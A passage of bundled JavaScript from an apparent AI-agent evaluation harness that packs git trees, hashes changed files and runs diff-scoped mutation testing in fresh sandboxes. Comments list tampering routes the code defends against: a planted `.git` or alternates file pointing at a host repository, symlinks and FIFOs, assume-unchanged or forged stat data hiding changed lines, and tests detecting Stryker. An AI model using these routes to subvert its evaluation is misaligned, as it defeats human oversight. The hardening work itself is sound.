    const addEntry = async (name, e) => {
        if (e.type === 'file')
            await add({ name, type: 'file', mode: e.mode }, e.data);
        else if (e.type === 'symlink')
            await add({ name, type: 'symlink', linkname: e.target });
    };
    const addBlob = async (root, e) => {
        const name = `${root}/${e.path}`;
        const data = blobs.get(e.sha);
        if (e.mode === '120000')
            await add({ name, type: 'symlink', linkname: data.toString('utf8') });
        else
            await add({ name, type: 'file', mode: e.mode === '100755' ? 0o755 : 0o644 }, data);
    };
    try {
        const roots = [spec.names.head, spec.names.base, spec.names.original];
        for (const side of roots.filter((r) => !!r)) {
            await add({ name: `${side}/`, type: 'directory', mode: 0o755 });
            for (const d of spec.dirs) {
                if (d !== '' && d !== '.')
                    await add({ name: `${side}/${d}/`, type: 'directory', mode: 0o755 });
            }
        }
        for (const [p, e] of head)
            await addEntry(`${spec.names.head}/${p}`, e);
        for (const e of fromBase)
            await addBlob(spec.names.base, e);
        for (const e of original)
            await addBlob(spec.names.original, e);
        let testFiles = 0;
        for (const t of headTests) {
            const e = head.get(t);
            if (!e)
                continue;
            testFiles++;
            await addEntry(`${spec.names.base}/${t}`, e);
        }
        pack.finalize();
        await written;
        return testFiles;
    }
    catch (e) {
        pack.destroy();
        await written.catch(() => undefined);
        throw e;
    }
}
/**
 * The work tree against HEAD by content, hashed here (no `git status`: it may run the
 * repository's clean filters and fsmonitor, which the agent configures).
 */
async function dirtyPaths(git, top, headSha, head) {
    const listed = split0(await must(git, 'list HEAD', ['ls-tree', '-r', '-z', '--full-tree', headSha], top));
    const committed = new Map();
    for (const line of listed) {
        const tab = line.indexOf('\t');
        const [mode, , sha] = line.slice(0, tab).split(' ');
        if (mode !== '160000')
            committed.set(line.slice(tab + 1), sha);
    }
    const dirty = [];
    for (const [p, e] of head) {
        const sha = committed.get(p);
        if (sha === undefined) {
            dirty.push(p);
            continue;
        }
        const data = e.type === 'file' ? e.data : Buffer.from(e.type === 'symlink' ? e.target : '');
        const algo = sha.length === 64 ? 'sha256' : 'sha1';
        const h = createHash(algo).update(`blob ${data.length}\0`).update(data).digest('hex');
        if (h !== sha)
            dirty.push(p);
    }
    for (const p of committed.keys())
        if (!head.has(p))
            dirty.push(p);
    return dirty.sort();
}
function unique(paths) {
    return [...new Set(paths)];
}
/** Raw blob contents by sha (`git cat-file --batch`), after checking their total size. */
async function catBlobs(git, top, shas, budget) {
    const blobs = new Map();
    if (!shas.length)
        return blobs;
    const input = Buffer.from(shas.join('\n') + '\n');
    const sizes = (await must(git, 'size the base tree', ['cat-file', '--batch-check'], top, { input }))
        .toString()
        .trim()
        .split('\n');
    for (const line of sizes) {
        const size = Number(line.split(' ')[2]);
        if (!Number.isFinite(size))
            throw new CompareError(`base object missing: ${line}`);
        budget(size);
    }
    const buf = await must(git, 'read the base tree', ['cat-file', '--batch'], top, { input });
    let pos = 0;
    while (pos < buf.length) {
        const nl = buf.indexOf(0x0a, pos);
        if (nl < 0)
            break;
        const [sha, type, sizeText] = buf.subarray(pos, nl).toString().split(' ');
        const size = Number(sizeText);
        if (type !== 'blob' || !Number.isFinite(size)) {
            throw new CompareError(`unexpected object in the base tree: ${sha} ${type}`);
        }
        blobs.set(sha, buf.subarray(nl + 1, nl + 1 + size));
        pos = nl + 1 + size + 1;
    }
    for (const sha of shas)
        if (!blobs.has(sha))
            throw new CompareError(`base object missing: ${sha}`);
    return blobs;
}
/**
 * Reads work-tree files without following symlinks: a listed path whose directories are not
 * real directories inside the work tree is refused (an index can name anything), a symlink is
 * copied as a symlink, a file is opened with O_NOFOLLOW and must still be the file lstat saw.
 */
class WorkTreeReader {
    top;
    dirs = new Map();
    constructor(top) {
        this.top = top;
    }
    realDir(rel) {
        let p = this.dirs.get(rel);
        if (!p) {
            const abs = join(this.top, rel);
            p = realpath(abs).then((real) => real === abs, () => false);
            this.dirs.set(rel, p);
        }
        return p;
    }
    async read(rel, budget) {
        const dir = posix.dirname(rel);
        if (rel.split('/').includes('..') || !(await this.realDir(dir === '.' ? '' : dir))) {
            // Missing directories are files deleted from the work tree; symlinked ones are refused.
            const exists = await lstat(join(this.top, dir)).then(() => true, () => false);
            if (!exists)
                return undefined;
            throw new CompareError(`refusing ${rel}: a directory on its path is a symlink`);
        }
        const abs = join(this.top, rel);
        const st = await lstat(abs).catch((e) => {
            if (e.code === 'ENOENT' || e.code === 'ENOTDIR')
                return undefined;
            throw e;
        });
        if (!st)
            return undefined;
        if (st.isSymbolicLink())
            return { type: 'symlink', target: await readlink(abs) };
        if (!st.isFile())
            return { type: 'skip' };
        const fh = await open(abs, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK);
        try {
            const now = await fh.stat();
            if (!now.isFile() || now.ino !== st.ino || now.dev !== st.dev) {
                throw new CompareError(`${rel} changed while being read`);
            }
            budget(now.size);
            return { type: 'file', mode: now.mode & 0o111 ? 0o755 : 0o644, data: await fh.readFile() };
        }
        finally {
            await fh.close();
        }
    }
}

;// CONCATENATED MODULE: ./src/run/compare/gitdirs.ts
// The repository a compare step reads must be the agent's own: its work tree, git dir, common
// dir (a linked worktree's main repository) and every alternate object directory must lie inside
// the agent's allowed paths. Otherwise a `.git` file written by the agent (`gitdir: /host/repo`)
// or an alternates file would make the harness copy a host repository into the sandbox.




/** Throws a CompareError naming the first path outside `roots` (real paths). */
async function gitdirs_assertRepoInside(git, repo, roots) {
    const real = (p) => realpath(p).catch(() => resolve(p));
    const check = async (what, p) => {
        const r = await real(p);
        if (!roots.some((root) => isInside(r, root))) {
            throw new CompareError(`${what} ${r} is outside the agent's workspace and context paths`);
        }
        return r;
    };
    await check('compare.repo', repo);
    const r = await git.run(['rev-parse', '--path-format=absolute', '--show-toplevel', '--git-dir', '--git-common-dir'], { cwd: repo });
    if (r.code !== 0)
        throw new CompareError(`${repo} is not inside a git work tree`);
    const [top, gitDir, common] = r.stdout.toString('utf8').trim().split('\n');
    await check('the git work tree', top);
    await check('the git directory', gitDir);
    const commonDir = await check('the git common directory', common);
    await checkAlternates(resolve(commonDir, 'objects'), check, 0);
}
async function checkAlternates(objects, check, depth) {
    const text = await readFile(resolve(objects, 'info', 'alternates'), 'utf8').catch(() => '');
    for (const line of text.split('\n').map((l) => l.trim())) {
        if (!line || line.startsWith('#'))
            continue;
        const dir = isAbsolute(line) ? line : resolve(objects, line);
        const r = await check('an alternate object directory', dir);
        // git follows alternates of alternates (up to 5 deep).
        if (depth < 5)
            await checkAlternates(r, check, depth + 1);
    }
}

;// CONCATENATED MODULE: ./src/lib/read-no-follow.ts
// Reading a file the sandbox (the agent's code) could have written: its reports, its untracked
// files. One rule for all of them: no symbolic link followed, no blocking on a planted FIFO, only
// a regular file, and nothing larger than the caller's cap read into memory.


/** The file's UTF-8 text; undefined when absent, not a regular file or larger than `max` bytes. */
async function read_no_follow_readNoFollow(path, max = 256 * 1024 * 1024) {
    return (await read_no_follow_readBytesNoFollow(path, max))?.toString('utf8');
}
/** The file's bytes, by the same rule as readNoFollow. */
async function read_no_follow_readBytesNoFollow(path, max = 256 * 1024 * 1024) {
    try {
        const fh = await open(path, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK);
        try {
            const st = await fh.stat();
            if (!st.isFile() || st.size > max)
                return undefined;
            return await fh.readFile();
        }
        finally {
            await fh.close();
        }
    }
    catch {
        return undefined;
    }
}

;// CONCATENATED MODULE: ./src/run/compare/evidence/changed.ts
// The lines a change adds or modifies, base..head, in non-test source files, head-side numbers.
// What is compared is content, never the agent's index or attributes: each source file of the
// head listing (as the head tree is packed: tracked and untracked, not ignored) is read from disk
// and hashed as a git blob; one whose blob differs from base's is diffed against base's blob with
// `git diff --no-index --text -U0` on two scratch files outside the repository. So an index entry
// marked assume-unchanged or skip-worktree, stat data forged to match, or a `-diff` / binary
// attribute hides no changed line. git runs as for the trees (trees.ts: no hooks, fsmonitor off,
// no external diff or textconv). A source file that cannot be read (a symlink, over the size
// cap) is listed as not measured, never dropped silently.






/** Source files whose lines are measured: Python (coverage.py) and JavaScript/TypeScript (V8). */
const SOURCE = /\.(py|js|mjs|cjs|jsx|ts|mts|cts|tsx)$/;
/** Most files looked at; the rest are left out and said so by the caller. */
const MAX_CHANGED_FILES = 500;
const MAX_FILE_BYTES = (/* unused pure expression or super */ null && (8 * 1024 * 1024));
const DIFF = (/* unused pure expression or super */ null && ([
    'diff',
    '--no-index',
    '--text',
    '--no-color',
    '--no-ext-diff',
    '--no-textconv',
    '--no-renames',
    '--src-prefix=a/',
    '--dst-prefix=b/',
    '-U0'
]));
/** Head-side line numbers a `-U0` patch adds or modifies (pure deletions add none). */
function hunkLines(patch) {
    const lines = [];
    for (const m of patch.matchAll(/^@@ -\d+(?:,\d+)? \+(\d+)(?:,(\d+))? @@/gm)) {
        const start = Number(m[1]);
        const count = m[2] === undefined ? 1 : Number(m[2]);
        for (let i = 0; i < count; i++)
            lines.push(start + i);
    }
    return [...new Set(lines)].sort((a, b) => a - b);
}
/** Line numbers of a whole (new) file. */
function allLines(text) {
    if (!text)
        return [];
    const n = text.split('\n').length - (text.endsWith('\n') ? 1 : 0);
    return Array.from({ length: n }, (_, i) => i + 1);
}
const changed_split0 = (b) => b.toString('utf8').split('\0').filter(Boolean);
async function changed_must(git, args, cwd) {
    const r = await git.run(args, { cwd });
    if (r.code !== 0) {
        throw new CompareError(`cannot list the changed lines: ${r.stderr.trim().split('\n').pop() || `git exit ${r.code}`}`);
    }
    return r.stdout;
}
/** The git blob id of `bytes` in the repository's object format. */
function blobId(bytes, format) {
    const h = createHash(format === 'sha256' ? 'sha256' : 'sha1');
    h.update(`blob ${bytes.length}\0`);
    h.update(bytes);
    return h.digest('hex');
}
/** Base's blobs by path (ls-tree reads the commit, not the index). */
async function baseBlobs(git, top, baseSha) {
    const out = new Map();
    for (const line of changed_split0(await changed_must(git, ['ls-tree', '-r', '-z', '--full-tree', baseSha], top))) {
        const tab = line.indexOf('\t');
        const [, type, sha] = line.slice(0, tab).split(' ');
        if (type === 'blob')
            out.set(line.slice(tab + 1), sha);
    }
    return out;
}
async function changed_changedLines(git, spec) {
    const { top, baseSha } = spec;
    const list = ['ls-files', '-z', '--cached', '--others', '--exclude-standard'];
    const tests = new Set(changed_split0(await changed_must(git, [...list, '--', ...pathspecs(spec.tests)], top)));
    const isSource = (p) => SOURCE.test(p) && !tests.has(p) && !spec.exclude?.(p);
    const head = [...new Set(changed_split0(await changed_must(git, list, top)))].filter(isSource).sort();
    const base = await baseBlobs(git, top, baseSha);
    const format = (await git.run(['rev-parse', '--show-object-format'], { cwd: top })).stdout.toString().trim() ||
        'sha1';
    const scratch = await mkdtemp(join(tmpdir(), 'mgx-changed-'));
    const files = [];
    const unreadable = [];
    let seen = 0;
    let omitted = 0;
    try {
        for (const p of head) {
            const bytes = await readBytesNoFollow(join(top, p), MAX_FILE_BYTES);
            const was = base.get(p);
            if (bytes === undefined) {
                if (!(await goneOrSameLink(join(top, p), was, format)))
                    unreadable.push(p);
                continue;
            }
            if (was !== undefined && blobId(bytes, format) === was)
                continue;
            if (++seen > MAX_CHANGED_FILES) {
                omitted++;
                continue;
            }
            const lines = was === undefined
                ? allLines(bytes.toString('utf8'))
                : hunkLines(await diffBlob(git, scratch, was, bytes, top));
            if (lines.length)
                files.push({ path: p, lines });
        }
    }
    finally {
        await rm(scratch, { recursive: true, force: true });
    }
    return { files, omitted, unreadable };
}
/**
 * A listed path that is not a readable file but adds no line: nothing at it (deleted in the work
 * tree, a deletion) or a symbolic link base has as it is (git stores the link's target as its blob).
 */
async function goneOrSameLink(path, was, format) {
    const st = await lstat(path).catch(() => undefined);
    if (!st)
        return true;
    if (!st.isSymbolicLink() || was === undefined)
        return false;
    return blobId(Buffer.from(await readlink(path)), format) === was;
}
/** `-U0` patch of base's blob `sha` against `bytes`, on scratch files outside the repository. */
async function diffBlob(git, scratch, sha, bytes, top) {
    const a = join(scratch, 'base');
    const b = join(scratch, 'head');
    await writeFile(a, await changed_must(git, ['cat-file', 'blob', sha], top));
    await writeFile(b, bytes);
    // --no-index exits 1 when the files differ: that is the answer, not a failure.
    const r = await git.run([...DIFF, a, b], { cwd: scratch });
    if (r.code !== 0 && r.code !== 1)
        throw new CompareError(`cannot diff a changed file: ${r.stderr.trim().split('\n').pop()}`);
    return r.stdout.toString('utf8');
}
/** An untracked file's text (the agent's: no symlink followed, size capped); '' when not a file. */
async function changed_readText(path) {
    return (await readNoFollow(path, MAX_FILE_BYTES)) ?? '';
}

;// CONCATENATED MODULE: ./src/run/compare/evidence/mutation-head.ts
// A fresh sandbox on a fresh copy of head for the mutation runner and the Stryker adapter: a new
// root of ours (inside compare's 0700 directory) holding a copy of the packed trees, opened through
// openHead as compare's runSide opens a side.



/** A copy of the packed trees in a new root of ours, opened as head (as compare's runSide does). */
async function mutation_head_openFreshHead(input) {
    const h = input.head;
    if (!h)
        throw new Error('no head tree to open');
    const token = randomBytes(6).toString('hex');
    const root = join(h.dir, `m-${token}`);
    await mkdir(root, { recursive: true });
    // Ours, inside a 0700 directory: writable by the sandbox's user whoever it is.
    await chmod(root, 0o777);
    const tar = join(root, `${token}.tar`);
    await copyFile(h.tar, tar);
    const scratch = {};
    if (h.freshHome) {
        for (const d of ['home', 'tmp']) {
            await mkdir(join(root, d), { mode: 0o777 });
            await chmod(join(root, d), 0o777);
        }
        Object.assign(scratch, {
            HOME: join(root, 'home'),
            TMPDIR: join(root, 'tmp'),
            XDG_CACHE_HOME: join(root, 'home', '.cache')
        });
    }
    let box;
    try {
        box = await input.openHead({ root, tar, member: h.member, label: `m${token}` });
    }
    catch (e) {
        await rm(root, { recursive: true, force: true }).catch(() => undefined);
        throw e;
    }
    const tree = join(root, h.member);
    let closed;
    return {
        box,
        root,
        tree,
        place: { cwd: join(tree, h.cwdRel), env: { ...h.env, ...scratch } },
        close: () => (closed ??= box
            .close()
            .catch((e) => input.log(`mutation: ${e.message}`))
            .then(() => rm(root, { recursive: true, force: true }))
            .catch(() => undefined))
    };
}

;// CONCATENATED MODULE: ./src/run/compare/evidence/stryker.ts
// JavaScript/TypeScript mutation through Stryker (issue 25, item 3), when the project has
// `@stryker-mutator/core` installed in the head tree: run once, in a fresh sandbox on a fresh copy
// of head, scoped with `--mutate file:start-end` per run of changed lines, `--reporters json`,
// `--concurrency` = the CPU limit. Its mutation-testing-report-schema statuses map to ours:
// Killed → killed; Survived and NoCoverage → survived; Timeout → timeout; RuntimeError and
// CompileError → error; Ignored and Pending → skipped (not run). Stryker's own per-mutant timeout
// applies (its dry run is its baseline), and the whole run is bounded by time_limit. Stryker runs
// every mutant in the ranges: max_mutants cannot cap it in advance (the report says so).
// Stryker's config file is the project's (its test runner is there), so it is the agent's: it
// can exclude mutators, and any test can notice it runs under Stryker — evidence, not proof.



const JS = /\.(m|c)?(j|t)sx?$/;
function stryker_isStrykerFile(path) {
    return JS.test(path) && !/\.d\.(m|c)?ts$/.test(path);
}
/** Runs of consecutive lines as `--mutate` ranges (paths relative to the step's directory). */
function mutateRanges(files, cwdRel) {
    const out = [];
    for (const f of files) {
        const rel = cwdRel ? posix.relative(cwdRel, f.path) : f.path;
        if (rel.startsWith('..') || /[,'\s]/.test(rel))
            continue;
        const lines = [...new Set(f.lines)].sort((a, b) => a - b);
        for (let i = 0; i < lines.length;) {
            let j = i;
            while (j + 1 < lines.length && lines[j + 1] === lines[j] + 1)
                j++;
            out.push(`${rel}:${lines[i]}-${lines[j]}`);
            i = j + 1;
        }
    }
    return out;
}
function strykerCommand(bin, ranges, parallel) {
    return [
        'node',
        `'${bin}'`,
        'run',
        '--mutate',
        `'${ranges.join(',')}'`,
        '--reporters',
        'json',
        '--concurrency',
        String(Math.max(1, Math.floor(parallel))),
        '--logLevel',
        'warn'
    ].join(' ');
}
const STATUS = {
    Killed: 'killed',
    Survived: 'survived',
    NoCoverage: 'survived',
    Timeout: 'timeout',
    RuntimeError: 'error',
    CompileError: 'error',
    Ignored: 'skipped',
    Pending: 'skipped'
};
const stryker_short = (s, n = 120) => {
    const t = s.replace(/\s+/g, ' ').trim();
    return t.length <= n ? t : `${t.slice(0, n - 1)}…`;
};
/**
 * Our results from a Stryker JSON report (mutation-testing-report-schema; lines and columns are
 * 1-based), only for mutants starting on changed lines. `prefix` makes report paths (relative to
 * the step's directory) work-tree-relative.
 */
function parseStrykerReport(json, changed, prefix = '') {
    const report = JSON.parse(json);
    if (!report || typeof report.files !== 'object')
        throw new Error('not a mutation-testing report');
    const lines = new Map(changed.map((f) => [f.path, new Set(f.lines)]));
    const mutants = [];
    let skipped = 0;
    let found = 0;
    for (const [file, body] of Object.entries(report.files)) {
        const path = prefix ? posix.join(prefix, file) : file;
        const wanted = lines.get(path);
        const src = (body.source ?? '').split(/\r?\n/);
        for (const m of body.mutants ?? []) {
            const { start, end } = m.location;
            if (!wanted?.has(start.line))
                continue;
            found++;
            const outcome = STATUS[m.status] ?? 'error';
            if (outcome === 'skipped') {
                skipped++;
                continue;
            }
            const line = src[start.line - 1] ?? '';
            const mutated = start.line === end.line && m.replacement !== undefined
                ? line.slice(0, start.column - 1) + m.replacement + line.slice(end.column - 1)
                : (m.replacement ?? '');
            mutants.push({
                id: `${path}:${start.line}:${m.mutatorName}:${m.id}`,
                path,
                line: start.line,
                operator: m.mutatorName,
                original: stryker_short(line),
                mutated: stryker_short(mutated),
                outcome,
                ...(m.duration !== undefined ? { durationMs: m.duration } : {}),
                detail: m.status === 'NoCoverage'
                    ? 'NoCoverage: no test covers it'
                    : m.statusReason
                        ? `${m.status}: ${stryker_short(m.statusReason, 200)}`
                        : m.status
            });
        }
    }
    return { mutants, skipped, found };
}
/** Stryker's CLI script in the head copy, from its package.json; undefined when not installed. */
async function strykerBin(head) {
    const dir = join(head.place.cwd, 'node_modules', '@stryker-mutator', 'core');
    const pkg = await readNoFollow(join(dir, 'package.json'), 1024 * 1024);
    if (!pkg)
        return undefined;
    try {
        const bin = JSON.parse(pkg).bin;
        const rel = typeof bin === 'string' ? bin : bin?.stryker;
        if (!rel || rel.includes("'") || rel.split('/').includes('..'))
            return undefined;
        return join(dir, rel);
    }
    catch {
        return undefined;
    }
}
async function stryker_runStryker(input, files, budget) {
    const cwdRel = input.head?.cwdRel ?? '';
    const ranges = mutateRanges(files, cwdRel);
    const empty = (problem, skipped = 0) => ({
        tool: 'stryker',
        mutants: [],
        killed: 0,
        survived: 0,
        timeout: 0,
        error: 0,
        score: null,
        found: skipped,
        skipped,
        problem
    });
    if (!ranges.length)
        return empty('no changed JavaScript line under the step directory to mutate');
    const head = await openFreshHead(input);
    try {
        const bin = await strykerBin(head);
        if (!bin) {
            return empty('JavaScript/TypeScript files changed but @stryker-mutator/core is not installed in the head tree (node_modules): not mutated');
        }
        const left = budget.deadline - Date.now();
        if (left <= 0)
            return empty('Stryker not started: the time limit was reached');
        input.log(`mutation: stryker on ${ranges.join(', ')}`);
        const run = head.box.exec(strykerCommand(bin, ranges, input.parallel), head.place);
        run.catch(() => undefined);
        let timer;
        const expired = new Promise((r) => (timer = setTimeout(() => r('expired'), left)));
        const r = await Promise.race([run, expired]).finally(() => clearTimeout(timer));
        if (r === 'expired') {
            await head.close();
            return empty('Stryker did not finish within the time limit (compare.mutation.time_limit)');
        }
        const json = await readNoFollow(join(head.place.cwd, 'reports', 'mutation', 'mutation.json'));
        if (!json) {
            const tail = r.stdout.trim().split('\n').slice(-3).join(' ').slice(0, 300);
            return empty(`Stryker wrote no JSON report (exit ${r.exitCode}): ${tail}`);
        }
        const parsed = parseStrykerReport(json, files, cwdRel);
        const count = (o) => parsed.mutants.filter((m) => m.outcome === o).length;
        const killed = count('killed');
        const survived = count('survived');
        const over = parsed.found > budget.max
            ? `Stryker ran all ${parsed.found} mutants on the changed lines (max_mutants ${budget.max} cannot cap it in advance)`
            : undefined;
        return {
            tool: 'stryker',
            mutants: parsed.mutants,
            killed,
            survived,
            timeout: count('timeout'),
            error: count('error'),
            score: killed + survived ? killed / (killed + survived) : null,
            found: parsed.found,
            skipped: parsed.skipped,
            ...(over ? { problem: over } : {})
        };
    }
    finally {
        await head.close();
    }
}

;// CONCATENATED MODULE: ./src/run/compare/evidence/mutation.ts
// Mutation testing scoped to the diff (issue 25, items 3 and 5): mutants only on the changed lines,
// each run in a fresh sandbox on a fresh copy of head (the verdict's machinery, through openHead)
// against the tests that cover its line, up to `parallel` at once, within a budget.
//
// - Python: the product's own mutator (python-mutator.ts) lists the mutants in one sandbox (where
//   pytest's ids are also collected) and applies each one in its own sandbox before any of the
//   agent's code has run there. JavaScript/TypeScript: Stryker, when the project has it
//   (stryker.ts), once, scoped to the changed lines.
// - Tests per mutant: the pytest ids covering its line (coveringTests), fail-to-pass first, each
//   group with -x; without coverage, the fail-to-pass tests and then the step's command; for a
//   command that is not plain pytest, the step's command.
// - Timeout per mutant (its tests, all stages together): max(3 × headRunMs, headRunMs + 5 s). A
//   mutant past it is `timeout` — never killed — and its sandbox is ended.
// - Outcomes from exit codes: 0 survived (every stage passed); pytest 1 killed, pytest 2–5
//   (interrupted or collection error, internal error, usage error, no tests) error; any other
//   non-zero exit of a command that is not pytest killed. A mutant that cannot be applied, or a
//   sandbox that cannot be opened, is `error`. Score = killed / (killed + survived).
// - Budget: at most max_mutants (default 50), chosen spread across files, operators and lines
//   when more are found (`sampled`, `skipped`); none started after time_limit (default 600 s).







const DEFAULT_MAX_MUTANTS = 50;
const DEFAULT_TIME_LIMIT_SEC = 600;
/** The time each mutant's tests get: three head runs, and never less than one head run + 5 s. */
function mutantTimeoutMs(headRunMs) {
    return Math.max(3 * headRunMs, headRunMs + 5000);
}
const PY = /\.py$/;
/** Runs mutation testing on the changed lines; never throws (a problem is reported). */
async function mutation_runMutation(input, 
/** Tests only: a timeout per mutant other than the one derived from headRunMs. */
opts = {}) {
    const t0 = Date.now();
    const deadline = t0 + (input.settings.time_limit ?? DEFAULT_TIME_LIMIT_SEC) * 1000;
    const max = input.settings.max_mutants ?? DEFAULT_MAX_MUTANTS;
    const timeoutMs = opts.timeoutMs ?? mutantTimeoutMs(input.headRunMs);
    const pyFiles = input.changed.filter((f) => PY.test(f.path) && f.lines.length);
    const jsFiles = input.changed.filter((f) => isStrykerFile(f.path) && f.lines.length);
    const reports = [];
    const problems = [];
    if (!input.head)
        problems.push('no head tree was given to mutate');
    else {
        if (pyFiles.length) {
            try {
                reports.push(await runPython(input, pyFiles, { max, deadline, timeoutMs }));
            }
            catch (e) {
                problems.push(`python: ${e.message}`);
            }
        }
        if (jsFiles.length) {
            try {
                const left = Math.max(0, max - (reports[0]?.mutants.length ?? 0));
                reports.push(await runStryker(input, jsFiles, { max: left, deadline, timeoutMs }));
            }
            catch (e) {
                problems.push(`stryker: ${e.message}`);
            }
        }
    }
    const report = merge(reports, problems);
    report.timeoutMs = timeoutMs;
    input.log(`mutation: ${report.found} found, ${report.mutants.length} run in ${((Date.now() - t0) / 1000).toFixed(1)} s: ` +
        `${report.killed} killed, ${report.survived} survived, ${report.timeout} timeout, ${report.error} error` +
        (report.skipped ? `, ${report.skipped} skipped` : '') +
        (report.score === null ? '' : `; score ${report.score.toFixed(2)}`));
    return report;
}
/** One report from the tools' reports (both when a change touches Python and JavaScript). */
function merge(reports, problems) {
    const mutants = reports.flatMap((r) => r.mutants);
    const count = (o) => mutants.filter((m) => m.outcome === o).length;
    const killed = count('killed');
    const survived = count('survived');
    const all = [...problems, ...reports.flatMap((r) => (r.problem ? [r.problem] : []))];
    const sampled = reports.flatMap((r) => (r.sampled ? [r.sampled] : []));
    const out = {
        tool: reports[0]?.tool ?? 'massgen-python',
        mutants,
        killed,
        survived,
        timeout: count('timeout'),
        error: count('error'),
        score: killed + survived ? killed / (killed + survived) : null,
        found: reports.reduce((n, r) => n + r.found, 0),
        skipped: reports.reduce((n, r) => n + r.skipped, 0)
    };
    if (reports.length > 1)
        out.tools = reports.map((r) => r.tool);
    if (sampled.length)
        out.sampled = sampled.join('; ');
    if (all.length)
        out.problem = all.join('; ');
    return out;
}
/** The mutants listed, and pytest's collected ids (when the step is plain pytest), from one sandbox. */
async function listPython(input, files) {
    const head = await openFreshHead(input);
    try {
        // Read before any of the agent's code runs in this sandbox (the collection below).
        const out = join(head.root, `mutants-${randomBytes(6).toString('hex')}.json`);
        const r = await head.box.exec(mutatorCommand('list', { root: head.tree, files, max: 5000, out }), {
            cwd: head.root,
            env: {}
        });
        const listing = parseListing((await readNoFollow(out)) ?? r.stdout);
        if (!listing) {
            const tail = r.stdout.trim().split('\n').slice(-3).join(' ').slice(0, 300);
            throw new Error(`the mutator did not run (exit ${r.exitCode}): ${tail || 'no output'}`);
        }
        if (listing.error)
            throw new Error(listing.error);
        const collect = collectCommand(input.command);
        let collected;
        if (collect && listing.mutants.length) {
            const c = await head.box.exec(collect, head.place);
            collected = parseCollected(c.stdout);
            if (!collected)
                listing.problems.push(`pytest --collect-only gave no ids (exit ${c.exitCode})`);
        }
        return { mutants: listing.mutants, problems: listing.problems, collected };
    }
    finally {
        await head.close();
    }
}
async function runPython(input, files, budget) {
    const listed = await listPython(input, files);
    const { chosen, sampled } = sample(listed.mutants, budget.max);
    if (sampled)
        input.log(`mutation: ${sampled}`);
    const tests = testPlan(input, listed.collected);
    const results = await pool(chosen, input.parallel, budget.deadline, (m, i) => runPyMutant(input, m, tests(m), budget.timeoutMs).then((r) => {
        input.log(`mutation: [${i + 1}/${chosen.length}] ${r.path}:${r.line} ${r.operator} ${r.outcome} (${((r.durationMs ?? 0) / 1000).toFixed(1)} s)`);
        return r;
    }));
    const ran = results.filter((r) => r !== undefined);
    const notStarted = chosen.length - ran.length;
    const report = merge([
        {
            tool: 'massgen-python',
            mutants: ran,
            killed: 0,
            survived: 0,
            timeout: 0,
            error: 0,
            score: null,
            found: listed.mutants.length,
            skipped: listed.mutants.length - ran.length
        }
    ], [
        ...listed.problems,
        ...(notStarted
            ? [
                `${notStarted} mutant(s) not started: the time limit (compare.mutation.time_limit) was reached`
            ]
            : [])
    ]);
    if (sampled)
        report.sampled = sampled;
    return report;
}
/** The commands each mutant runs, in order, from the tests covering its line. */
function testPlan(input, collected) {
    const pytest = collectCommand(input.command) !== undefined;
    const step = { command: input.command, pytest };
    if (!pytest || !collected)
        return () => [step];
    const known = new Set(collected);
    const f2p = input.failToPass.filter((id) => known.has(id));
    const select = (ids) => {
        const c = ids.length ? rerunCommand(input.command, ids, collected) : undefined;
        return c ? { command: `${c} -x`, pytest } : undefined;
    };
    // Fail-to-pass tests that are the whole suite: one run of the step is the same selection.
    const f2pStage = f2p.length < known.size ? select(f2p) : undefined;
    return (m) => {
        const covering = (input.coveringTests?.[`${m.path}:${m.line}`] ?? []).filter((id) => known.has(id));
        if (covering.length) {
            const first = covering.filter((id) => f2p.includes(id));
            const rest = covering.filter((id) => !f2p.includes(id));
            const stages = [select(first), select(rest)].filter((s) => !!s);
            if (stages.length === (first.length ? 1 : 0) + (rest.length ? 1 : 0))
                return stages;
        }
        return f2pStage ? [f2pStage, step] : [step];
    };
}
/** How one stage's exit reads: undefined when it passed (go on to the next stage). */
function classify(exitCode, pytest) {
    if (exitCode === 0)
        return undefined;
    if (exitCode === null)
        return {
            outcome: 'error',
            detail: 'the tests did not exit (ended by the step timeout or a signal)'
        };
    if (!pytest)
        return { outcome: 'killed', detail: `exit ${exitCode}` };
    if (exitCode === 1)
        return { outcome: 'killed', detail: 'pytest exit 1: tests failed' };
    const why = {
        2: 'interrupted or a collection error',
        3: 'internal error',
        4: 'usage error',
        5: 'no tests collected'
    };
    return {
        outcome: 'error',
        detail: `pytest exit ${exitCode}: ${why[exitCode] ?? 'not a test failure'}`
    };
}
const TIMED_OUT = Symbol('timeout');
async function runPyMutant(input, m, stages, timeoutMs) {
    const { edits: _edits, ...shown } = m;
    const t0 = Date.now();
    const done = (outcome, detail) => ({
        ...shown,
        outcome,
        durationMs: Date.now() - t0,
        ...(detail ? { detail } : {})
    });
    let head;
    try {
        head = await openFreshHead(input);
    }
    catch (e) {
        return done('error', `cannot open a sandbox: ${e.message}`);
    }
    try {
        // Before any of the agent's code runs in this sandbox.
        const a = await head.box.exec(mutatorCommand('apply', { root: head.tree, mutant: m }), {
            cwd: head.root,
            env: {}
        });
        if (a.exitCode !== 0) {
            return done('error', `cannot apply: ${a.stdout.trim().slice(0, 300) || `exit ${a.exitCode}`}`);
        }
        const t1 = Date.now();
        let timer;
        const expired = new Promise((resolve) => {
            timer = setTimeout(() => resolve(TIMED_OUT), timeoutMs);
        });
        try {
            for (const s of stages) {
                const run = head.box.exec(s.command, head.place);
                run.catch(() => undefined);
                const r = await Promise.race([run, expired]);
                if (r === TIMED_OUT) {
                    // Ending the sandbox ends every process in it.
                    await head.close();
                    return done('timeout', `no result within ${(timeoutMs / 1000).toFixed(1)} s`);
                }
                const c = classify(r.exitCode, s.pytest);
                if (c)
                    return done(c.outcome, c.detail);
            }
            return done('survived', `${stages.length > 1 ? 'every stage' : 'the tests'} passed in ${((Date.now() - t1) / 1000).toFixed(1)} s`);
        }
        finally {
            clearTimeout(timer);
        }
    }
    catch (e) {
        return done('error', `sandbox: ${e.message}`);
    }
    finally {
        await head.close();
    }
}
/**
 * Runs `fn` on each item, at most `parallel` at once, none started after `deadline`; the results
 * in the items' order (undefined for those not started).
 */
async function pool(items, parallel, deadline, fn, now = Date.now) {
    const out = new Array(items.length).fill(undefined);
    let next = 0;
    const worker = async () => {
        while (next < items.length && now() < deadline) {
            const i = next++;
            out[i] = await fn(items[i], i);
        }
    };
    const n = Math.max(1, Math.min(Math.floor(parallel) || 1, items.length));
    await Promise.all(Array.from({ length: n }, worker));
    return out;
}
/**
 * At most `max` mutants, spread deterministically: files in turn, within a file operators in turn,
